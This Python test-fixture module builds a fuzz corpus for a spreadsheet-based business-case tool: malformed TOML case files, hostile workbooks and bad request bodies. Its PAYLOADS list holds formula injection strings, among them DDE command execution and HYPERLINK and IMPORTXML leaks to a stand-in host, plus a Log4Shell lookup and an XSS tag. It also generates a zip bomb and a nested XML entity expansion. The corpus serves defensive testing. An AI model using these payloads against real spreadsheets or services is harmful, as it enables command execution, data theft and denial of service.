"""Our own fuzz corpus, generated (not copied): malformed case files, injection payloads for every text
field, hostile workbooks and bad HTTP requests. Used by tests/test_fuzz.py and bench/reliability.py."""

from __future__ import annotations

import copy
import datetime as dt
import io
import json
import re
import tomllib
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
BASE_CASE = ROOT / "cases" / "ishoej_2021.toml"

#: Text that spreadsheets, shells or browsers may run: each must stay plain text everywhere.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klik her")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://example.invalid")',
    '=DDE("cmd";"/C calc";"x")',
    "=IMPORTXML(CONCAT(\"http://example.invalid/?\",A1),\"//a\")",
    "'=quoted",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.invalid/a}",
    "=",
    "=SUM(1,2)*[1]Ark!A1",
)


def _toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return repr(value)
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, str):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, list):
        return "[" + ", ".join(_toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{json.dumps(str(k))} = {_toml_value(v)}" for k, v in value.items()) + " }"
    raise TypeError(type(value))


def to_toml(data: dict[str, Any]) -> str:
    """A case dict back as TOML (tables, arrays of tables, inline tables for the rest)."""
    lines: list[str] = []
    for key, value in data.items():
        if isinstance(value, dict):
            lines.append(f"[{key}]")
            subtables = {k: v for k, v in value.items() if isinstance(v, dict)}
            lines += [f"{json.dumps(k)} = {_toml_value(v)}" for k, v in value.items() if k not in subtables]
            for sub, table in subtables.items():
                lines.append(f"[{key}.{sub}]")
                lines += [f"{json.dumps(str(k))} = {_toml_value(v)}" for k, v in table.items()]
        elif isinstance(value, list) and value and all(isinstance(v, dict) for v in value):
            for entry in value:
                lines.append(f"[[{key}]]")
                lines += [f"{json.dumps(k)} = {_toml_value(v)}" for k, v in entry.items()]
        else:
            lines.append(f"{json.dumps(key)} = {_toml_value(value)}")
        lines.append("")
    return "\n".join(lines)


def base_case() -> dict[str, Any]:
    return tomllib.loads(BASE_CASE.read_text(encoding="utf-8"))


def text_fields(data: dict[str, Any]) -> list[tuple[Any, str | int]]:
    """(container, key) of every free-text field of a case: where a user's words go."""
    found: list[tuple[Any, str | int]] = [(data["case"], k) for k in ("title", "municipality", "source", "notes")]
    for kind, keys in (("outcomes", ("label",)), ("cohorts", ("name",)), ("costs", ("label", "basis")), ("savings", ("label", "basis")),
                       ("targets", ("label",)), ("actuals", ("label",)), ("published", ("label",)), ("uncertainty", ("source",))):
        for entry in data.get(kind, []):
            found += [(entry, k) for k in keys if k in entry or k in ("label", "basis", "source")]
    if "appraisal" in data and "optimism_bias" in data["appraisal"]:
        found.append((data["appraisal"]["optimism_bias"], "source"))
    return found


def with_payload(payload: str) -> str:
    """The base case with ``payload`` in every free-text field (cohort names made unique, references kept)."""
    data = base_case()
    renames: dict[str, str] = {}
    for i, cohort in enumerate(data["cohorts"]):
        renames[cohort["name"]] = f"{payload} {i}"
    for container, key in text_fields(data):
        if container in data["cohorts"]:
            container[key] = renames[container[key]]
        elif container in data.get("costs", []) and key == "label":
            container[key] = f"{payload} cost {data['costs'].index(container)}"
        else:
            container[key] = payload
    labels = {old: entry["label"] for old, entry in zip((e["label"] for e in base_case().get("costs", [])), data.get("costs", []), strict=True)}
    for figure in data.get("published", []):
        if "cohort" in figure:
            figure["cohort"] = renames[figure["cohort"]]
        if "item" in figure:
            figure["item"] = labels.get(figure["item"], figure["item"])
    for u in data.get("uncertainty", []):
        if u.get("item") is not None:
            u["item"] = data["costs"][0]["label"]
    return to_toml(data)


def malformed_cases() -> Iterator[tuple[str, bytes]]:
    """Case files a user or a broken tool might produce: each must give one clear line, never a traceback."""
    good = BASE_CASE.read_text(encoding="utf-8")
    data = base_case()
    yield "empty file", b""
    yield "binary garbage", bytes(range(256)) * 8
    yield "latin-1 text", good.replace("Ishøj", "Ish\xf8j").encode("latin-1", errors="replace")
    yield "byte-order mark", "\ufeff".encode() + good.encode()
    yield "not toml", b"[case\ntitle = "
    yield "duplicate key", (good + '\n[case]\ntitle = "igen"\n').encode()
    yield "deep nesting", (good + "\nx = " + "[" * 5000 + "]" * 5000 + "\n").encode()
    yield "moderately deep", (good + "\nx = " + "[" * 40 + "]" * 40 + "\n").encode()
    yield "huge string", (good.replace('title = "Bring ressourcerne i spil"', 'title = "' + "x" * 40_000 + '"')).encode()
    yield "control character", good.replace("Bring ressourcerne", "Bring\\u0007 ressourcerne").encode()
    yield "nul character", good.replace("Bring ressourcerne", "Bring\\u0000 ressourcerne").encode()
    for number in ("1e308", "-1e308", "inf", "nan", "-inf", "9" * 400, "1e16", "0"):
        variant = copy.deepcopy(data)
        variant["costs"][0]["annual_cost"] = number
        yield f"annual_cost = {number[:12]}", to_toml(variant).replace(json.dumps(number), number).encode()
    for number in ("1e308", "inf", "nan", "9" * 400, "-1"):
        variant = copy.deepcopy(data)
        variant["cohorts"][0]["participants"] = number
        yield f"participants = {number[:12]}", to_toml(variant).replace(json.dumps(number), number).encode()
    for year in ("99999", "-2021", "2021.5", "1e300"):
        yield f"first_year = {year[:10]}", good.replace("first_year = 2021", f"first_year = {year}").encode()
    for date in ("9999-01-01", "0001-01-01", "2021-02-30", "2021-13-01"):
        yield f"effect_start = {date}", good.replace("effect_start = 2021-04-01", f"effect_start = {date}", 1).encode()
    yield "wrong type: persons text", good.replace("persons = 4", 'persons = "fire"', 1).encode()
    yield "wrong type: cohorts a table", good.replace("[[cohorts]]", "[cohortsx]", 1).encode()
    yield "unknown key", good.replace("participants = 12", "participants = 12\nparticpants = 12", 1).encode()
    yield "missing title", good.replace('title = "Bring ressourcerne i spil"\n', "").encode()
    yield "deadweight above persons", good.replace("deadweight = 1 }", "deadweight = 9 }", 1).encode()
    yield "shares above 1", good.replace("fallbacks = [[0.10, 2], [0.10, 4]]", "fallbacks = [[0.8, 2], [0.8, 4]]").encode()
    yield "share as percent", good.replace("fallbacks = [[0.10, 2], [0.10, 4]]", "fallbacks = [[10, 2]]").encode()
    yield "negative weeks", (good.replace('unit_saving = 146000               # kr. pr. helårsperson (fremgår af tabellen: 438 = 3 × 146)', 'benefit_rate = 146000')
                             .replace("participants = 12\n", "participants = 12\nweeks_on_benefit = -5\n", 1)).encode()
    yield "unknown benefit", good.replace("unit_saving = 146000 ", 'benefit = "kontanthjaelp.nej" ', 1).encode()
    yield "uncertainty outside range", good.replace("max = 1.25                           # 25 %", "max = 9").encode()
    yield "uncertainty without source", good.replace('source = "ANTAGELSE: lønudgiften', 'sourcex = "').encode()


def build_book(data: bytes, *, members: dict[str, bytes] | None = None, drop: tuple[str, ...] = (), props: dict[str, str] | None = None) -> bytes:
    """``data`` (an .xlsx) with parts added, replaced or dropped, and custom properties rewritten."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename in drop or (members and item.filename in members):
                continue
            content = source.read(item.filename)
            if props and item.filename == "docProps/custom.xml":
                text = content.decode("utf-8")
                for name, value in props.items():
                    v0, v1 = _value_span(text, name)
                    text = text[:v0] + value.replace("&", "&amp;").replace("<", "&lt;") + text[v1:]
                content = text.encode("utf-8")
            target.writestr(item, content)
        for name, content in (members or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A few hundred kilobytes that unpack to a gigabyte: one part of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        target.writestr("[Content_Types].xml", "<Types/>")
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            block = b"\0" * (1 << 20)
            for _ in range(1024):
                part.write(block)
    return out.getvalue()


def hostile_workbooks(good: bytes) -> Iterator[tuple[str, bytes]]:
    """Workbooks handed to ``recalc`` that must be refused clearly, leaving everything as it was. (A book with
    macros is no longer refused: recalc patches the package and keeps them; tests/test_users_package.py.)"""
    shape = json.loads(_prop(good, "xlmodel_shape"))
    yield "not a zip", b"PK\x03\x04 but not really"
    yield "empty", b""
    yield "truncated", good[: len(good) // 2]
    yield "zip bomb", zip_bomb()
    yield "many parts", build_book(good, members={f"xl/junk/{i}.xml": b"<a/>" for i in range(6_000)})
    for key, value in (("cohorts", 10**9), ("cohorts", -1), ("costs", 10**7), ("first_year", 1), ("outcomes", ["job"] * 500), ("benefit_periods", 10**6)):
        forged = dict(shape, **{key: value})
        yield f"forged shape {key}={str(value)[:12]}", build_book(good, props={"xlmodel_shape": json.dumps(forged)})
    yield "forged shape pension without ages", build_book(good, props={"xlmodel_shape": json.dumps(dict(shape, pension_outcomes=list(shape["outcomes"][:1]), ages=0))})
    yield "shape not json", build_book(good, props={"xlmodel_shape": "{not json"})
    yield "shape unknown key", build_book(good, props={"xlmodel_shape": json.dumps(dict(shape, evil=1))})
    yield "shape names its row order", build_book(good, props={"xlmodel_shape": json.dumps(dict(shape, layout=3))})  # the layout version says it
    yield "case property not a table", build_book(good, props={"xlmodel_case": "[1, 2, 3]"})
    yield "case property bad figure", build_book(good, props={"xlmodel_case": json.dumps({"published": [{"figure": "savings", "nope": 1}]})})
    yield "case property deep", build_book(good, props={"xlmodel_case": "[" * 50_000 + "]" * 50_000})
    yield "xml entity expansion", build_book(good, members={"xl/workbook.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'})
    yield "broken sheet xml", build_book(good, members={"xl/worksheets/sheet3.xml": b"<worksheet><sheetData><row><c"})


#: Parts a user's book carries that xlmodel does not own (workbooks.package.OWNED): recalc must keep each byte for byte.
USERS_PARTS = {
    "macros": {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA"},
    "sensitivity label": {"docMetadata/LabelInfo.xml": b'<?xml version="1.0"?><clbl:labelList xmlns:clbl="http://schemas.microsoft.com/office/2020/mipLabelMetadata"/>'},
    "custom XML (ESDH)": {"customXml/item1.xml": b"<sag><nummer>27.12.00-G01-3-21</nummer></sag>"},
    "image": {"xl/media/image1.png": b"\x89PNG\r\n\x1a\n"},
    "threaded comments": {"xl/threadedComments/threadedComment1.xml": b"<ThreadedComments/>"},
    "external link": {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
    "pivot cache": {"xl/pivotCache/pivotCacheDefinition1.xml": b"<pivotCacheDefinition/>"},
    "slicer": {"xl/slicers/slicer1.xml": b"<slicers/>"},
    "dynamic arrays": {"xl/metadata.xml": b"<metadata/>"},
    "rich data": {"xl/richData/rdrichvalue.xml": b"<rvData/>"},
    "ActiveX": {"xl/activeX/activeX1.xml": b"<ocx/>"},
    "embedded object": {"xl/embeddings/oleObject1.bin": b"\x00ole"},
}


def users_packages(good: bytes) -> Iterator[tuple[str, bytes]]:
    """Books carrying something of the user's that xlmodel does not own: recalc keeps it byte for byte."""
    for name, members in USERS_PARTS.items():
        yield name, build_book(good, members=members)
    yield "everything at once", build_book(good, members={k: v for members in USERS_PARTS.values() for k, v in members.items()})


def _value_span(text: str, name: str) -> tuple[int, int]:
    """Where the value of custom property ``name`` sits in docProps/custom.xml."""
    match = re.compile(rf'name="{re.escape(name)}"[^>]*><vt:lpwstr[^>]*>(.*?)</vt:lpwstr>', re.S).search(text)
    assert match is not None, name
    return match.start(1), match.end(1)


def _prop(data: bytes, name: str) -> str:
    text = zipfile.ZipFile(io.BytesIO(data)).read("docProps/custom.xml").decode("utf-8")
    v0, v1 = _value_span(text, name)
    return text[v0:v1].replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def hostile_cells() -> Iterator[tuple[str, str, str, Any]]:
    """(name, sheet key, cell, value): what a user might type into an input cell."""
    yield "huge number", "cohorts", "F5", 1e308
    yield "huge integer", "cohorts", "F5", 10**30
    yield "text in a number cell", "cohorts", "F5", "fire"
    yield "negative persons", "cohorts", "F5", -3
    yield "date far in the future", "cohorts", "C5", dt.datetime(9999, 1, 1)
    yield "year typed as date", "cohorts", "C5", 2021
    yield "formula in an input", "cohorts", "F5", "=1/0"
    yield "share above 1", "inputs", "D11", 7
    yield "huge unit saving", "inputs", "I10", 1e300


def bad_requests() -> Iterator[tuple[str, Any]]:
    """Bodies posted to the custom-functions endpoint: each must be a clear 4xx, never a 500."""
    base = {"version": "0.37.8", "client": "Office.js", "runtime": "1.4"}
    savings = [[[4]], [[146000]], [[44287]], [[2021]], None, None, None, [[1]]]
    yield "huge persons", base | {"func_name": "savings", "args": [[[1e308]], *savings[1:]]}
    yield "huge integer", base | {"func_name": "savings", "args": [[[10**30]], *savings[1:]]}
    yield "huge unit saving", base | {"func_name": "savings", "args": [savings[0], [[1e300]], *savings[2:]]}
    yield "far future date", base | {"func_name": "savings", "args": [savings[0], savings[1], [[2_958_465]], *savings[3:]]}
    yield "negative date", base | {"func_name": "savings", "args": [savings[0], savings[1], [[-1]], *savings[3:]]}
    yield "year 99999", base | {"func_name": "savings", "args": [*savings[:3], [[99999]], *savings[4:]]}
    yield "text persons", base | {"func_name": "savings", "args": [[["fire"]], *savings[1:]]}
    yield "ragged range", base | {"func_name": "savings", "args": [[[4, 5], [6]], *savings[1:]]}
    yield "error value", base | {"func_name": "savings", "args": [[["#DIV/0!"]], *savings[1:]]}
    yield "too many cells", base | {"func_name": "deadweight", "args": [[[12]] * 60_000, [[0.1]] * 60_000]}
    yield "huge weeks", base | {"func_name": "savings_by_payer", "args": [[[1]], [[52000]], [[44197]], [[2021]], [[1e300]], None, None, None, None, None, None]}
    yield "huge rate", base | {"func_name": "discounted_net", "args": [[[1e308, 1e308]], None, [[True]]]}
    yield "huge savings", base | {"func_name": "net_gain", "args": [[[1e308, 1e308]], [[0, 0]], None, None, None]}
    yield "payback huge draws", base | {"func_name": "payback_probability", "args": [[[1]], [[1]], [[0.5]], [[1.5]], None, None, [[1e12]], None]}
    yield "args not a list", base | {"func_name": "deadweight", "args": "12"}
